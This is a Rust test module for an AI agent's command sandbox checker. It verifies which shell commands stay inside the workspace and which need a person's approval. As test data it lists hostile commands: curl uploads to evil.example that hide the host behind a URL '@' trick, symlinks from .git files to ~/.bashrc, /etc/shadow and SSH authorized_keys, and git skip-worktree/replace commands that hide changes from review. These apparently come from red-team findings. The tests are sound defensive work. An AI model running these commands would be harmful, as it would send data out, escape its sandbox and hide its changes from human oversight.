            ("source /work/app/.venv/bin/activate && pip install six", true),
            ("source ~/.venvs/x/bin/activate && pip install six", false),
            ("source /opt/env/bin/activate && pip install six", false),
            ("echo activate && pip install six", false),
            ("pip install six", false),
        ] {
            assert_eq!(activates_python_env(t, &view()), active, "{t}");
        }
    }

    /// The box holds a POST only to this machine, and a URL's host is what follows its `@`.
    #[test]
    fn uploads_count_as_local_only_for_loopback_hosts() {
        assert_eq!(kind("curl -X POST http://localhost:8000/api -d x"), None);
        for t in [
            "curl -X POST http://localhost:80@evil.example/ -d x",
            "curl -X PUT http://127.0.0.1:1@evil.example/",
            "curl -X POST http://127.evil.example/",
            "curl -X POST 'http://localhost'@evil.example/",
        ] {
            assert_eq!(kind(t), Some(EdgeKind::World), "{t}");
        }
    }

    /// Issue 29, item 11: an edge's reason is read after "it" ("outside the sandbox: it changes
    /// a package registry"), so it starts with a verb, never with a command or "agentsh".
    #[test]
    fn reasons_read_after_it() {
        let mut v = view();
        v.network = false;
        for t in [
            "npm publish",
            "kubectl apply -f x",
            "sshpass -p x ssh host",
            "mosh host",
            "cargo publish",
            "pip install six",
            "git push",
            "curl -X POST https://x.example",
            "curl https://x.example",
            "sudo ls",
            "kill 1",
            "rm -rf src",
            "git reset --hard",
            "echo x > ~/.bashrc",
            "systemctl restart x",
            "$(cat)",
        ] {
            for a in assess::assess(&parse::parse(t).unwrap()) {
                let Some(e) = edge_of(&a, &v) else { continue };
                let first = e.why.split_whitespace().next().unwrap_or("");
                assert!(!first.starts_with('`') && first != "agentsh", "{t}: it {}", e.why);
                assert!(first.ends_with('s') || first == "is", "{t}: it {}", e.why);
            }
        }
    }

    #[test]
    fn urls_are_read_after_quote_removal() {
        let hosts = |t: &str| urls_in(t).into_iter().map(|u| u.host).collect::<Vec<_>>();
        assert_eq!(hosts("curl 'https://github.com'@evil.example/x"), ["evil.example"]);
        assert_eq!(hosts("U=https://a.example/x curl -d @f \"$U\" https://b.example"), ["a.example", "b.example"]);
        assert_eq!(hosts("curl https://a.example && curl https://a.example"), ["a.example"]);
        assert_eq!(hosts("ls -la"), Vec::<String>::new());
    }

    #[test]
    fn with_the_network_off_a_download_cannot_work_inside() {
        let mut v = view();
        v.network = false;
        assert_eq!(kinds("curl -o x https://example.com", &v), [Some(EdgeKind::Outside)]);
        assert_eq!(kinds("curl -o x https://example.com", &view()), [None]);
    }

    #[test]
    fn paths_are_placed_by_their_text() {
        let v = view();
        assert_eq!(place(&v, "x"), Place::Inside);
        assert_eq!(place(&v, "../../app/x"), Place::Inside);
        assert_eq!(place(&v, "../../other"), Place::Outside);
        assert_eq!(place(&v, "/work/application"), Place::Outside, "a prefix of a name is not the directory");
        assert_eq!(place(&v, "~/.cache/pip/x"), Place::Inside);
        assert_eq!(place(&v, "~"), Place::Outside);
        assert_eq!(place(&v, "../.git/hooks/x"), Place::ReadOnly);
        assert_eq!(place(&v, "$OUT"), Place::Unknown);
        assert_eq!(place(&v, "/dev/null"), Place::Inside);
    }

    #[test]
    fn unreadable_text_needs_a_person() {
        let a = assess::unparseable("if then", &parse::ParseError::Syntax("x".into()));
        assert_eq!(edge_of(&a, &view()).map(|e| e.kind), Some(EdgeKind::Unjudged));
    }

    // ---- fix-gitdir: links into the git directory, and what blinds git's review (rt3 G1, G3) ----

    #[test]
    fn a_link_put_in_the_git_directory_needs_a_person() {
        // rt3 G1: the person's git writes what a link in `.git` names, outside the box.
        for t in [
            "ln -sf ~/.bashrc .git/COMMIT_EDITMSG",
            "ln -sf /etc/shadow ../.git/FETCH_HEAD",
            "ln -s /root/.ssh/authorized_keys /work/app/.git/logs/HEAD",
            "ln -s ~/.bashrc -t ../.git",
            "ln -s ~/.bashrc ../.git",
            "cp -s ~/.bashrc ../.git/MERGE_MSG",
            "cp -P link ../.git/SQUASH_MSG",
            "cp -a links/. --target-directory=../.git/logs",
            "mv evil ../.git/TAG_EDITMSG",
            "install x ../.git/NOTES_EDITMSG",
            "link x ../.git/ORIG_HEAD",
            "rsync -a x ../.git/",
            "ln -s ~/.bashrc ../vendor/lib/.git/COMMIT_EDITMSG",
        ] {
            assert_eq!(kind(t), Some(EdgeKind::Outside), "{t}");
        }
        // Links elsewhere in the workspace, and copies out of `.git`, stay contained.
        for t in [
            "ln -sf ../README.md docs/README.md",
            "cp ../.git/config /tmp/config.bak",
            "mv .gitignore x",
            "ln -s x .github/y",
        ] {
            assert!(contained(t), "{t}: {:?}", kinds(t, &view()));
        }
    }

    #[test]
    fn what_hides_changes_from_git_review_needs_a_person() {
        // rt3 G3: a skip-worktree or assume-unchanged bit, or a replacement object.
        for t in [
            "git update-index --skip-worktree .husky/pre-commit",
            "git update-index --assume-unchanged Makefile",
            "git -C . update-index --really-refresh --skip-worktree a",
            "git replace -f 1234abcd 5678ef90",
            "git replace --edit HEAD",
            "git replace --graft HEAD HEAD~2",
            "git replace --convert-graft-file",
            "git update-ref refs/replace/1234abcd 5678ef90",
            "git update-ref --stdin",
        ] {
            assert_eq!(kind(t), Some(EdgeKind::Destroys), "{t}");
        }
        for t in [
            "git update-index --no-skip-worktree a",
            "git update-index --no-assume-unchanged a",
            "git update-index --refresh",
            "git replace -l",
            "git replace",
            "git replace -d 1234abcd",
            "git update-ref refs/heads/x HEAD",
        ] {
            assert!(contained(t), "{t}: {:?}", kinds(t, &view()));
        }
    }
}
